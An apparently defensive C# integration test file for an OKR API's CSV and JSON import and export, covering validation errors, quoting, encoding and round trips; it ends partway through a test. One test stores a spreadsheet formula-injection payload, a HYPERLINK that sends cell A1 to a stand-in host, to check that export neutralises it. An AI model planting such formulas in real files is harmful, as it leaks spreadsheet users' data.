using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Hosting;
using Microsoft.EntityFrameworkCore;
using Okr.Api.Domain;
using Okr.Api.Tests.Infrastructure;

namespace Okr.Api.Tests.Api;

public sealed class ImportExportTests : OrganisationTest
{
    private const string Header =
        "objective_external_id,objective_title,period,team,objective_owner,parent_external_id,key_result_external_id,key_result_title,type,direction,baseline,target,unit,current_value,confidence,measured_at";

    private static StringContent Csv(string csv, bool bom = false) =>
        new((bom ? "\uFEFF" : "") + csv, new UTF8Encoding(false), "text/csv");

    private static StringContent Json(JsonNode document) => new(document.ToJsonString(), Encoding.UTF8, "application/json");

    private static string Rows(params string[] rows) => string.Join("\r\n", [Header, .. rows]) + "\r\n";

    /// <summary>Three objectives (company, product team, an individual one) with metric, decreasing and milestone key results.</summary>
    private static string SampleCsv(string target = "100") => Rows(
        "C-1,Grow the business,Current,example,,,C-1-K1,Revenue,metric,increase,10," + target + ",number,40,6,2026-01-10",
        "C-1,Grow the business,Current,example,,,C-1-K2,\"Churn, monthly\",metric,decrease,8,5,percent,6,5,2026-01-11T08:30:00Z",
        "P-1,Ship the app,Current,product,,C-1,P-1-K1,App in stores,milestone,,,,,,,",
        "M-1,Learn Rust,Current,product,member@example.com,P-1,M-1-K1,Finish the book,metric,increase,0,300,pages,,,");

    private static async Task<JsonNode> ImportAsync(HttpClient client, HttpContent content, string query = "", HttpStatusCode expected = HttpStatusCode.OK)
    {
        var response = await client.PostAsync("/api/v1/imports" + query, content);
        return expected == HttpStatusCode.OK || expected == HttpStatusCode.Accepted
            ? await ExpectJsonAsync(response, expected)
            : await ExpectProblemAsync(response, expected);
    }

    private static int Count(JsonNode result, string entity, string what) => result["counts"]![entity]![what]!.GetValue<int>();

    /// <summary>Rows in a table (the test's own constant names, never input).</summary>
    private static async Task<long> RowsAsync(string table)
    {
        await using var connection = new Npgsql.NpgsqlConnection(TestDatabase.ConnectionString);
        await connection.OpenAsync();
        await using var command = new Npgsql.NpgsqlCommand("SELECT count(*) FROM " + table, connection);
        return (long)(await command.ExecuteScalarAsync())!;
    }

    private static async Task<JsonNode> KeyResultAsync(HttpClient client, string externalId)
    {
        var objectives = await ExpectJsonAsync(await client.GetAsync("/api/v1/objectives?pageSize=100"), HttpStatusCode.OK);
        return objectives["items"]!.AsArray().SelectMany(o => o!["keyResults"]!.AsArray()).Single(k => k!["externalId"]?.GetValue<string>() == externalId)!;
    }

    private static async Task<string> ExportAsync(HttpClient client, string format, Guid? periodId = null)
    {
        var response = await client.GetAsync($"/api/v1/exports?format={format}" + (periodId is null ? "" : $"&periodId={periodId}"));
        await ExpectAsync(response, HttpStatusCode.OK);
        return Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync());
    }

    [Test]
    public async Task CsvImportCreatesTheOkrsWithTheirLatestCheckInAndARerunChangesNothing()
    {
        var first = await ImportAsync(Org.Admin, Csv(SampleCsv()));
        Assert.Multiple(() =>
        {
            Assert.That(first["status"]!.GetValue<string>(), Is.EqualTo("succeeded"));
            Assert.That(Count(first, "objectives", "created"), Is.EqualTo(3));
            Assert.That(Count(first, "keyResults", "created"), Is.EqualTo(4));
            Assert.That(Count(first, "checkIns", "created"), Is.EqualTo(2));
            Assert.That(first["recordsRead"]!.GetValue<long>(), Is.EqualTo(4));
            Assert.That(first["durationMs"]!.GetValue<long>(), Is.GreaterThanOrEqualTo(0));
        });

        var revenue = await KeyResultAsync(Org.Admin, "C-1-K1");
        var churn = await KeyResultAsync(Org.Admin, "C-1-K2");
        Assert.Multiple(() =>
        {
            Assert.That(revenue["currentValue"]!.GetValue<decimal>(), Is.EqualTo(40));
            Assert.That(revenue["progress"]!.GetValue<decimal>(), Is.EqualTo(1m / 3).Within(0.0001m));
            Assert.That(churn["title"]!.GetValue<string>(), Is.EqualTo("Churn, monthly"));
            Assert.That(churn["direction"]!.GetValue<string>(), Is.EqualTo("decrease"));
            Assert.That(churn["progress"]!.GetValue<decimal>(), Is.EqualTo(2m / 3).Within(0.0001m), "(8 − 6) / (8 − 5)");
            Assert.That(churn["lastCheckInAt"]!.GetValue<DateTimeOffset>(), Is.EqualTo(DateTimeOffset.Parse("2026-01-11T08:30:00Z")));
        });
        var checkIns = await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/key-results/{Id(revenue)}/check-ins"), HttpStatusCode.OK);
        Assert.That(checkIns["items"]![0]!["source"]!.GetValue<string>(), Is.EqualTo("import"));

        var versionBefore = (await Org.Admin.GetAsync($"/api/v1/key-results/{Id(revenue)}")).Headers.ETag!.Tag;
        var auditBefore = await RowsAsync("audit_log");
        var again = await ImportAsync(Org.Admin, Csv(SampleCsv()));
        Assert.Multiple(() =>
        {
            Assert.That(Count(again, "objectives", "unchanged"), Is.EqualTo(3));
            Assert.That(Count(again, "keyResults", "unchanged"), Is.EqualTo(4));
            Assert.That(Count(again, "checkIns", "unchanged"), Is.EqualTo(2));
            Assert.That(Count(again, "objectives", "created") + Count(again, "objectives", "updated") + Count(again, "keyResults", "updated"), Is.Zero);
        });
        Assert.That((await Org.Admin.GetAsync($"/api/v1/key-results/{Id(revenue)}")).Headers.ETag!.Tag, Is.EqualTo(versionBefore), "unchanged rows keep their version");
        Assert.That(await RowsAsync("audit_log"), Is.EqualTo(auditBefore), "nothing changed, nothing audited");
    }

    [Test]
    public async Task ChangingOneTargetUpdatesExactlyThatKeyResultAndAuditsItAsTheImport()
    {
        await ImportAsync(Org.Admin, Csv(SampleCsv()));
        var churnVersion = (await Org.Admin.GetAsync($"/api/v1/key-results/{Id(await KeyResultAsync(Org.Admin, "C-1-K2"))}")).Headers.ETag!.Tag;

        var result = await ImportAsync(Org.Admin, Csv(SampleCsv(target: "120")));
        Assert.Multiple(() =>
        {
            Assert.That(Count(result, "keyResults", "updated"), Is.EqualTo(1));
            Assert.That(Count(result, "keyResults", "unchanged"), Is.EqualTo(3));
            Assert.That(Count(result, "objectives", "unchanged"), Is.EqualTo(3));
        });
        var revenue = await KeyResultAsync(Org.Admin, "C-1-K1");
        Assert.That(revenue["target"]!.GetValue<decimal>(), Is.EqualTo(120));
        Assert.That((await Org.Admin.GetAsync($"/api/v1/key-results/{Id(await KeyResultAsync(Org.Admin, "C-1-K2"))}")).Headers.ETag!.Tag, Is.EqualTo(churnVersion));

        var audit = await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/audit?entityId={Id(revenue)}"), HttpStatusCode.OK);
        var update = audit["items"]!.AsArray().First(e => e!["action"]!.GetValue<string>() == "updated")!;
        Assert.Multiple(() =>
        {
            Assert.That(update["importId"]!.GetValue<string>(), Is.EqualTo(result["id"]!.GetValue<string>()));
            Assert.That(update["actorUserId"]!.GetValue<string>(), Is.EqualTo(Org.AdminId.ToString()));
            Assert.That(update["changes"]!["target"]!["old"]!.GetValue<decimal>(), Is.EqualTo(100));
            Assert.That(update["changes"]!["target"]!["new"]!.GetValue<decimal>(), Is.EqualTo(120));
            Assert.That(update["changes"]!.AsObject().Count, Is.EqualTo(1), "only the changed field");
        });
    }

    [Test]
    public async Task DryRunReportsWhatWouldHappenAndWritesNothing()
    {
        var auditBefore = await RowsAsync("audit_log");
        var result = await ImportAsync(Org.Admin, Csv(SampleCsv()), "?dryRun=true");
        Assert.Multiple(() =>
        {
            Assert.That(result["dryRun"]!.GetValue<bool>(), Is.True);
            Assert.That(Count(result, "objectives", "created"), Is.EqualTo(3));
            Assert.That(Count(result, "keyResults", "created"), Is.EqualTo(4));
        });
        Assert.That(await RowsAsync("objectives"), Is.Zero);
        Assert.That(await RowsAsync("key_results"), Is.Zero);
        Assert.That(await RowsAsync("check_ins"), Is.Zero);
        Assert.That(await RowsAsync("audit_log"), Is.EqualTo(auditBefore));
    }

    [Test]
    public async Task AnErrorInTheLastRowWritesNothingAndNamesRowFieldAndRule()
    {
        var rows = Enumerable.Range(1, 60).Select(i => $"B-{i},Objective {i},Current,product,,,B-{i}-K,Result {i},metric,increase,0,10,number,,,").ToList();
        rows.Add("B-61,Objective 61,Current,product,,,B-61-K,Result 61,metric,decrease,0,10,number,,,");
        var problem = await ImportAsync(Org.Admin, Csv(Rows([.. rows])), expected: HttpStatusCode.UnprocessableEntity);

        Assert.That(problem["errorCount"]!.GetValue<int>(), Is.EqualTo(1));
        var error = problem["errors"]![0]!;
        Assert.Multiple(() =>
        {
            Assert.That(error["row"]!.GetValue<int>(), Is.EqualTo(62), "the header is row 1");
            Assert.That(error["field"]!.GetValue<string>(), Is.EqualTo("target"));
            Assert.That(error["message"]!.GetValue<string>(), Does.Contain("below its baseline"));
        });
        Assert.That(await RowsAsync("objectives"), Is.Zero);
        Assert.That(await RowsAsync("key_results"), Is.Zero);
        var job = await ExpectJsonAsync(await Org.Admin.GetAsync($"/api/v1/imports/{problem["importId"]}"), HttpStatusCode.OK);
        Assert.That(job["status"]!.GetValue<string>(), Is.EqualTo("failed"));
        Assert.That(job["problem"]!["errors"]![0]!["row"]!.GetValue<int>(), Is.EqualTo(62));
    }

    [Test]
    public async Task ReferencesToMissingTeamsPeoplePeriodsParentsAndKeyResultsAreAllListed()
    {
        var document = JsonNode.Parse("""
            {
              "users": [{ "email": "new@example.com", "displayName": "New", "teams": [{ "team": "ghost-team" }] }],
              "objectives": [
                { "externalId": "O-1", "title": "Missing team", "period": "Current", "team": "nowhere" },
                { "externalId": "O-2", "title": "Missing period", "period": "2099 Q9", "team": "product" },
                { "externalId": "O-3", "title": "Missing owner", "period": "Current", "team": "product", "owner": "nobody@example.com" },
                { "externalId": "O-4", "title": "Missing parent", "period": "Current", "team": "product", "parent": "NOPE" }
              ],
              "keyResults": [{ "externalId": "K-1", "objective": "O-404", "title": "Orphan", "direction": "increase", "baseline": 0, "target": 1 }],
              "checkIns": [{ "keyResult": "K-404", "value": 1, "measuredAt": "2026-01-01T00:00:00Z" }]
            }
            """)!;
        var problem = await ImportAsync(Org.Admin, Json(document), expected: HttpStatusCode.UnprocessableEntity);
        var errors = problem["errors"]!.AsArray().Select(e => (Path: e!["path"]!.GetValue<string>(), Field: e["field"]!.GetValue<string>())).ToList();
        Assert.That(errors, Is.EquivalentTo(new[]
        {
            ("$.users[0]", "teams[0].team"),
            ("$.objectives[0]", "team"),
            ("$.objectives[1]", "period"),
            ("$.objectives[2]", "owner"),
            ("$.objectives[3]", "parent"),
            ("$.keyResults[0]", "objective"),
            ("$.checkIns[0]", "keyResult"),
        }), problem.ToJsonString());
        Assert.That(problem["errors"]![0]!["row"], Is.Null);
        Assert.That(await RowsAsync("users"), Is.EqualTo(4), "nobody was added");
    }

    [Test]
    public async Task AlignmentRulesHoldForImportedObjectives()
    {
        var document = JsonNode.Parse("""
            {
              "objectives": [
                { "externalId": "I-1", "title": "Mine", "period": "Current", "team": "product", "owner": "member@example.com" },
                { "externalId": "I-2", "title": "Also mine", "period": "Current", "team": "product", "owner": "lead@example.com", "parent": "I-1" },
                { "externalId": "T-1", "title": "Sales team goal", "period": "Current", "team": "sales" },
                { "externalId": "T-2", "title": "Product team goal", "period": "Current", "team": "product", "parent": "T-1" }
              ]
            }
            """)!;
        var problem = await ImportAsync(Org.Admin, Json(document), expected: HttpStatusCode.UnprocessableEntity);
        var errors = problem["errors"]!.AsArray();
        Assert.That(errors.Select(e => e!["path"]!.GetValue<string>()), Is.EqualTo(new[] { "$.objectives[1]", "$.objectives[3]" }));
        Assert.That(errors[0]!["message"]!.GetValue<string>(), Does.Contain("an individual objective cannot align to an individual objective"));
        Assert.That(errors[1]!["message"]!.GetValue<string>(), Does.Contain("not above its own"));
    }

    [Test]
    public async Task MovingATeamMayNotBreakTheAlignmentsBelowIt()
    {
        await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "teams": [{ "slug": "web", "name": "Web", "parent": "product" }],
              "objectives": [
                { "externalId": "P", "title": "Product goal", "period": "Current", "team": "product" },
                { "externalId": "W", "title": "Web goal", "period": "Current", "team": "web", "parent": "P" } ] }
            """)!));
        var move = """{ "slug": "web", "name": "Web", "parent": "sales" }""";

        var alone = await ImportAsync(Org.Admin, Json(JsonNode.Parse($$"""{ "teams": [{{move}}] }""")!), expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(alone["errors"]!.AsArray().Select(e => $"{e!["path"]} {e["field"]}"), Is.EqualTo(new[] { "$.teams[0] parent" }), alone.ToJsonString());

        var withTheObjective = await ImportAsync(Org.Admin, Json(JsonNode.Parse($$"""
            { "teams": [{{move}}],
              "objectives": [{ "externalId": "W", "title": "Web goal", "period": "Current", "team": "web", "parent": "P" }] }
            """)!), expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(withTheObjective["errors"]!.AsArray().Select(e => $"{e!["path"]} {e["field"]}"), Is.EqualTo(new[] { "$.objectives[0] parent" }),
            withTheObjective.ToJsonString());

        // Renaming it where it is, is fine.
        var fine = await ImportAsync(Org.Admin, Json(JsonNode.Parse("""{ "teams": [{ "slug": "web", "name": "Web and apps", "parent": "product" }] }""")!));
        Assert.That(Count(fine, "teams", "updated"), Is.EqualTo(1));
    }

    [Test]
    public async Task FieldErrorsAreReportedPerElementWithTheirJsonPath()
    {
        var problem = await ImportAsync(Org.Admin, new StringContent("""
            {
              "objectives": [{ "externalId": "X", "title": "", "period": "Current", "team": "product", "weight": "heavy" }],
              "keyResults": [{ "externalId": "Y", "objective": "X", "title": "k", "type": "metrik" }, { "externalId": "Z", "objective": "X", "title": "k", "colour": "red" }],
              "checkIns": [{ "keyResult": "Y", "value": 3 }],
              "notAPart": []
            }
            """, Encoding.UTF8, "application/json"), expected: HttpStatusCode.UnprocessableEntity);
        var errors = problem["errors"]!.AsArray().Select(e => $"{e!["path"]} {e["field"]}").ToList();
        Assert.That(errors, Is.EquivalentTo(new[]
        {
            "$.notAPart notAPart", "$.objectives[0] weight", "$.keyResults[0] type", "$.keyResults[1] colour", "$.checkIns[0] measuredAt",
        }), problem.ToJsonString());
    }

    [Test]
    public async Task CsvWithBomQuotesLineBreaksAndNonAsciiTextReadsExactly()
    {
        var csv = Rows(
            "Q-1,\"Café for everyone, \"\"really\"\"\",Current,product,,,Q-1-K,\"Two lines:\r\nhere\",metric,increase,0,5,クッキー,,,",
            "Q-2,Zürich ❤ München,Current,product,,,,,,,,,,,,",
            "Q-3,A 12\" screen for everyone,Current,product,,,,,,,,,,,,");
        var result = await ImportAsync(Org.Admin, Csv(csv, bom: true));
        Assert.That(Count(result, "objectives", "created"), Is.EqualTo(3));
        Assert.That(Count(result, "keyResults", "created"), Is.EqualTo(1), "a row without key-result columns is an objective alone");

        var objectives = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/objectives?pageSize=100"), HttpStatusCode.OK);
        var titles = objectives["items"]!.AsArray().Select(o => o!["title"]!.GetValue<string>()).ToList();
        Assert.That(titles, Is.EquivalentTo(new[] { "Café for everyone, \"really\"", "Zürich ❤ München", "A 12\" screen for everyone" }));
        var kr = await KeyResultAsync(Org.Admin, "Q-1-K");
        Assert.That(kr["title"]!.GetValue<string>(), Is.EqualTo("Two lines:\r\nhere"), "line breaks inside quotes are kept exactly");
        Assert.That(kr["unit"]!.GetValue<string>(), Is.EqualTo("クッキー"));

        var export = await ExportAsync(Org.Admin, "csv");
        Assert.That(export, Does.StartWith("\uFEFFobjective_external_id,"));
        Assert.That(export, Does.Contain("\"Café for everyone, \"\"really\"\"\""));
        Assert.That(export, Does.Contain("\"Two lines:\r\nhere\""));
        var again = await ImportAsync(Org.Admin, Csv(export));
        Assert.That(Count(again, "objectives", "unchanged") + Count(again, "keyResults", "unchanged"), Is.EqualTo(4));
    }

    [Test]
    public async Task TeamProblemsAreListedNotCrashedOn()
    {
        var problem = await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "teams": [
                { "slug": "orphan", "name": "Orphan", "parent": "nope" },
                { "slug": "child", "name": "Child of the orphan", "parent": "orphan" },
                { "slug": "holding", "name": "A second company" },
                { "slug": "example", "name": "Example Ltd", "parent": "holding" },
                { "slug": "loop-a", "name": "A", "parent": "loop-b" },
                { "slug": "loop-b", "name": "B", "parent": "loop-a" },
                { "slug": "below-the-loop", "name": "C", "parent": "loop-a" }
              ],
              "objectives": [{ "externalId": "O", "title": "In the child team", "period": "Current", "team": "child" }] }
            """)!), expected: HttpStatusCode.UnprocessableEntity);
        var errors = problem["errors"]!.AsArray().Select(e => $"{e!["path"]} {e["field"]}").ToList();
        Assert.That(errors, Is.EquivalentTo(new[] { "$.teams[0] parent", "$.teams[2] parent", "$.teams[3] parent", "$.teams[4] parent", "$.teams[5] parent" }),
            problem.ToJsonString());
        Assert.That(await RowsAsync("teams"), Is.EqualTo(3));
    }

    [Test]
    public async Task IdsAreMatchedAsOkrWritesThemAndBadJsonIsRefusedClearly()
    {
        var made = await CompanyObjectiveAsync("Made by hand");
        var id = Id(made).ToString();
        var result = await ImportAsync(Org.Admin, Json(JsonNode.Parse($$"""
            { "objectives": [
                { "externalId": "{{id}}", "title": "Made by hand", "period": "Current", "team": "example" },
                { "externalId": "{{id.ToUpperInvariant()}}", "title": "Another one", "period": "Current", "team": "example" } ] }
            """)!));
        Assert.That(Count(result, "objectives", "unchanged"), Is.EqualTo(1));
        Assert.That(Count(result, "objectives", "created"), Is.EqualTo(1));

        await ImportAsync(Org.Admin, new StringContent("{\"\\ud800\": []}", Encoding.UTF8, "application/json"), expected: HttpStatusCode.BadRequest);
        var withBom = new ByteArrayContent([0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes("""{ "periods": [{ "label": "Next", "startDate": "2027-01-01", "endDate": "2027-03-31" }] }""")]);
        withBom.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        Assert.That(Count(await ImportAsync(Org.Admin, withBom), "periods", "created"), Is.EqualTo(1));
    }

    [Test]
    public async Task CsvQuotingMistakesAreReportedByRowAndNothingIsWritten()
    {
        var csv = Rows(
            "B-1,Fine,Current,product,,,,,,,,,,,,",
            "B-2,\"Closed\" then more,Current,product,,,,,,,,,,,,",
            "B-3,A 12\" screen is fine,Current,product,,,,,,,,,,,,",
            "B-4,\"Never closed,Current,product,,,,,,,,,,,,");
        var problem = await ImportAsync(Org.Admin, Csv(csv), expected: HttpStatusCode.UnprocessableEntity);
        var errors = problem["errors"]!.AsArray().Where(e => e!["field"]!.GetValue<string>() == "row").ToList();
        Assert.That(errors.Select(e => e!["row"]!.GetValue<int>()), Is.EqualTo(new[] { 3, 5 }), problem.ToJsonString());
        Assert.That(errors[0]!["message"]!.GetValue<string>(), Does.Contain("closing quote"));
        Assert.That(errors[1]!["message"]!.GetValue<string>(), Does.Contain("not closed"));
        Assert.That(await RowsAsync("objectives"), Is.Zero);

        var huge = Rows($"H-1,\"{new string('x', 1024 * 1024 + 1)}\",Current,product,,,,,,,,,,,,");
        var tooLong = await ImportAsync(Org.Admin, Csv(huge), expected: HttpStatusCode.BadRequest);
        Assert.That(tooLong["detail"]!.GetValue<string>(), Does.Contain("Row 2").And.Contain("1 MiB"));
        var commas = Rows("H-2,Fine,Current,product,,,,,,,,,,,,", "H-3,Endless" + new string(',', 2 * 1024 * 1024));
        var endless = await ImportAsync(Org.Admin, Csv(commas), expected: HttpStatusCode.BadRequest);
        Assert.That(endless["detail"]!.GetValue<string>(), Does.Contain("Row 3").And.Contain("1 MiB"));
    }

    [Test]
    public async Task CsvRowsMayEndWithLineFeedsOrCarriageReturnsAlone()
    {
        var lf = Rows("L-1,Linux file,Current,product,,,,,,,,,,,,", "L-2,Second row,Current,product,,,,,,,,,,,,").Replace("\r\n", "\n");
        Assert.That(Count(await ImportAsync(Org.Admin, Csv(lf)), "objectives", "created"), Is.EqualTo(2));
        var cr = Rows("L-3,Old Mac file,Current,product,,,,,,,,,,,,").Replace("\r\n", "\r");
        Assert.That(Count(await ImportAsync(Org.Admin, Csv(cr)), "objectives", "created"), Is.EqualTo(1));
    }

    [Test]
    public async Task CsvCellsWithABareLineFeedAreQuotedAndRoundTrip()
    {
        await ImportAsync(Org.Admin, Csv(Rows("N-1,\"one\ntwo\",Current,product,,,,,,,,,,,,", "N-2,Plain,Current,product,,,,,,,,,,,,")));
        var export = await ExportAsync(Org.Admin, "csv");
        Assert.That(export, Does.Contain("N-1,\"one\ntwo\",").And.Contain("N-2,Plain,"));
        var again = await ImportAsync(Org.Admin, Csv(export));
        Assert.That(Count(again, "objectives", "unchanged"), Is.EqualTo(2));
    }

    [Test]
    public async Task CsvExportNeutralisesFormulasAndTheRoundTripStaysExact()
    {
        // Written by a member through the API: every text a spreadsheet would run as a formula.
        const string formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")";
        var objective = await CreateObjectiveAsync(Org.Member, new
        {
            title = formula, description = "@SUM(1+1)", periodId = Org.PeriodId, teamId = Org.ProductId, ownerId = Org.MemberId, externalId = "-1+cmd",
            keyResults = new[] { new { title = "+1 customers", direction = "increase", baseline = -5, target = 10, unit = "'quoted", externalId = "\tK" } },
        });
        await ExpectAsync(await Org.Member.PostAsJsonAsync($"/api/v1/key-results/{Id(objective["keyResults"]![0]!)}/check-ins", new { value = -2, note = "\rnote" }),
            HttpStatusCode.Created);

        var export = await ExportAsync(Org.Admin, "csv");
        var cells = export.Split("\r\n")[1];
        Assert.That(cells, Does.StartWith("'-1+cmd,\"'=HYPERLINK("), "the external id and the title are text behind a quote");
        Assert.That(cells, Does.Contain(",'@SUM(1+1),").And.Contain(",'+1 customers,").And.Contain(",''quoted,").And.Contain(",-5,"),
            "text is neutralised, numbers are not");

        // Into an empty organisation and out again: the same file, and the same titles through the API.
        await ResetDatabaseAsync();
        await CreateOrganisationAsync();
        await ImportAsync(Org.Admin, Csv(export));
        Assert.That(await ExportAsync(Org.Admin, "csv"), Is.EqualTo(export));
        var back = await ExpectJsonAsync(await Org.Admin.GetAsync("/api/v1/objectives?externalId=-1%2Bcmd"), HttpStatusCode.OK);
        Assert.That(back["items"]![0]!["title"]!.GetValue<string>(), Is.EqualTo(formula));
        Assert.That(back["items"]![0]!["keyResults"]![0]!["unit"]!.GetValue<string>(), Is.EqualTo("'quoted"));
    }

    [Test]
    public async Task ACheckInNoteIsKeptTheSameWayThroughTheApiAndTheImport()
    {
        await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "objectives": [{ "externalId": "N", "title": "Notes", "period": "Current", "team": "product" }],
              "keyResults": [{ "externalId": "N-K", "objective": "N", "title": "k", "direction": "increase", "baseline": 0, "target": 10 },
                             { "externalId": "N-L", "objective": "N", "title": "l", "direction": "increase", "baseline": 0, "target": 10 }],
              "checkIns": [{ "keyResult": "N-K", "value": 1, "measuredAt": "2026-01-05T10:00:00Z", "note": "  padded\n " },
                           { "keyResult": "N-K", "value": 2, "measuredAt": "2026-01-06T10:00:00Z", "note": "   " },
                           { "keyResult": "N-L", "value": 1, "measuredAt": "2026-01-06T10:00:00Z", "note": " why\n" }] }
            """)!));
        var keyResult = await KeyResultAsync(Org.Admin, "N-K");
        Assert.That(keyResult["lastCheckInNote"], Is.Null, "the latest imported check-in said nothing");
        Assert.That((await KeyResultAsync(Org.Admin, "N-L"))["lastCheckInNote"]!.GetValue<string>(), Is.EqualTo("why"), "a new key result shows its latest note");
        var url = $"/api/v1/key-results/{Id(keyResult)}/check-ins";
        await ExpectAsync(await Org.Admin.PostAsJsonAsync(url, new { value = 3, measuredAt = "2026-01-07T10:00:00Z", note = "  padded\n " }), HttpStatusCode.Created);
        await ExpectAsync(await Org.Admin.PostAsJsonAsync(url, new { value = 4, measuredAt = "2026-01-08T10:00:00Z", note = "   " }), HttpStatusCode.Created);
        var notes = (await ExpectJsonAsync(await Org.Admin.GetAsync(url), HttpStatusCode.OK))["items"]!.AsArray()
            .OrderBy(c => c!["value"]!.GetValue<decimal>()).Select(c => c!["note"]?.GetValue<string>()).ToList();
        Assert.That(notes, Is.EqualTo(new[] { "padded", null, "padded", null }), "imported (1, 2) and posted (3, 4) notes read back alike");

        await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "checkIns": [{ "keyResult": "N-K", "value": 5, "measuredAt": "2026-01-09T10:00:00Z", "note": "Ahead of plan" }] }
            """)!));
        Assert.That((await KeyResultAsync(Org.Admin, "N-K"))["lastCheckInNote"]!.GetValue<string>(), Is.EqualTo("Ahead of plan"), "an existing key result takes the imported note");
    }

    [Test]
    public async Task CsvStructureProblemsAreRefusedClearly()
    {
        await ImportAsync(Org.Admin, Csv("title,team\r\nx,y\r\n"), expected: HttpStatusCode.BadRequest);
        var problem = await ImportAsync(Org.Admin, Csv(Header + ",colour\r\n"), expected: HttpStatusCode.UnprocessableEntity);
        Assert.That(problem["errors"]![0]!["field"]!.GetValue<string>(), Is.EqualTo("colour"));
        var latin1 = new ByteArrayContent(Encoding.Latin1.GetBytes(Rows("L-1,Café,Current,product,,,,,,,,,,,,")));
        latin1.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        var notUtf8 = await ImportAsync(Org.Admin, latin1, expected: HttpStatusCode.BadRequest);
        Assert.That(notUtf8["detail"]!.GetValue<string>(), Does.Contain("UTF-8"));
        var wrongType = await ImportAsync(Org.Admin, new StringContent("x", Encoding.UTF8, "text/plain"), expected: HttpStatusCode.UnsupportedMediaType);
        Assert.That(wrongType["detail"]!.GetValue<string>(), Does.Contain("text/csv"));
        await ImportAsync(Org.Admin, new StringContent("{\"objectives\": [", Encoding.UTF8, "application/json"), expected: HttpStatusCode.BadRequest);
        Assert.That(await RowsAsync("objectives"), Is.Zero);
    }

    private async Task PatchObjectiveAsync(JsonNode objective, object changes)
    {
        var url = $"/api/v1/objectives/{Id(objective)}";
        var etag = (await Org.Admin.GetAsync(url)).Headers.ETag!.Tag;
        await ExpectAsync(await PatchAsync(Org.Admin, url, changes, etag), HttpStatusCode.OK);
    }

    private static async Task<JsonNode> ObjectiveByExternalIdAsync(HttpClient client, string externalId) =>
        (await ExpectJsonAsync(await client.GetAsync($"/api/v1/objectives?externalId={externalId}"), HttpStatusCode.OK))["items"]![0]!;

    /// <summary>Data the app makes that an import must carry over as it is: no externalIds, closed and archived
    /// objectives with their outcome, currency, empty notes, padded text, people who left, an owner no longer in the
    /// team, and an archived objective aligned to one archived after it.</summary>
    private async Task MakeHistoryInTheAppAsync()
    {
        await ImportAsync(Org.Admin, Csv(SampleCsv()));
        var made = await CompanyObjectiveAsync("Made by hand", Metric("Hand-made result", "stay_above", 50, 90, "percent"));
        await ExpectAsync(await Org.Admin.PostAsJsonAsync($"/api/v1/key-results/{Id(made["keyResults"]![0]!)}/check-ins",
            new { value = 95.5, confidence = 9, note = "Ahead", measuredAt = "2026-01-05T10:00:00Z" }), HttpStatusCode.Created);
        await ExpectAsync(await Org.Admin.PostAsJsonAsync($"/api/v1/key-results/{Id(made["keyResults"]![0]!)}/check-ins",
            new { value = 96, note = "", measuredAt = "2026-01-06T10:00:00Z" }), HttpStatusCode.Created);
        var money = await CreateObjectiveAsync(Org.Admin, new
        {
            title = "Earn more", description = "  padded on purpose  ", periodId = Org.PeriodId, teamId = Org.SalesId,
            keyResults = new[] { new { title = "Revenue", direction = "increase", baseline = 1000.50m, target = 2000, unit = "currency", currencyCode = "EUR" } },
        });
        await PatchObjectiveAsync(money, new { state = "closed", finalScore = 0.8, closingComment = "Good quarter " });
        await PatchObjectiveAsync(money, new { state = "archived" });
        // Archived bottom-up (nothing else may stay aligned to an archived objective): M-1 keeps its link to P-1 as history.
        await PatchObjectiveAsync(await ObjectiveByExternalIdAsync(Org.Admin, "M-1"), new { state = "archived" });
        await PatchObjectiveAsync(await ObjectiveByExternalIdAsync(Org.Admin, "P-1"), new { state = "archived" });
        await ExpectAsync(await Org.Admin.DeleteAsync($"/api/v1/teams/{Org.ProductId}/members/{Org.MemberId}"), HttpStatusCode.NoContent); // M-1's owner left
        await ExpectAsync(await Org.Admin.PostAsync($"/api/v1/users/{Org.OutsiderId}/deactivate", null), HttpStatusCode.OK);
    }

    [Test]
    public async Task ReimportingYourOwnExportChangesNothing()
    {
        await MakeHistoryInTheAppAsync();
        var json = await ExportAsync(Org.Admin, "json");
        Assert.That(json, Does.Contain("\"active\": false").And.Contain("\"finalScore\": 0.8").And.Contain("  padded on purpose  "));
        var result = await ImportAsync(Org.Admin, new StringContent(json, Encoding.UTF8, "application/json"));
        foreach (var entity in new[] { "teams", "users", "memberships", "periods", "objectives", "keyResults", "checkIns" })
        {
            Assert.That(Count(result, entity, "created") + Count(result, entity, "updated"), Is.Zero, $"{entity}: {result["counts"]![entity]}");
        }

        var csvResult = await ImportAsync(Org.Admin, new StringContent(await ExportAsync(Org.Admin, "csv"), Encoding.UTF8, "text/csv"));
        Assert.That(Count(csvResult, "objectives", "updated") + Count(csvResult, "keyResults", "updated") + Count(csvResult, "checkIns", "created")
                    + Count(csvResult, "periods", "created") + Count(csvResult, "periods", "updated"), Is.Zero, csvResult.ToJsonString());
    }

    [Test]
    public async Task TheRollUpChoiceTravelsThroughImportAndExport()
    {
        var imported = await ImportAsync(Org.Admin, Json(JsonNode.Parse("""
            { "objectives": [
                { "externalId": "R-1", "title": "Grow", "period": "Current", "team": "example", "progressFrom": "both", "alignedShare": 0.25 },
                { "externalId": "R-2", "title": "Ship", "period": "Current", "team": "product", "parent": "R-1" } ],
              "keyResults": [
                { "externalId": "R-1-K", "objective": "R-1", "title": "Revenue", "direction": "increase", "baseline": 0, "target": 100 },
                { "externalId": "R-2-K", "objective": "R-2", "title": "Features", "direction": "increase", "baseline": 0, "target": 10 } ],
              "checkIns": [
                { "keyResult": "R-1-K", "value": 20, "measuredAt": "2026-01-05T10:00:00Z" },
                { "keyResult": "R-2-K", "value": 10, "measuredAt": "2026-01-05T10:00:00Z" } ] }
            """)!));
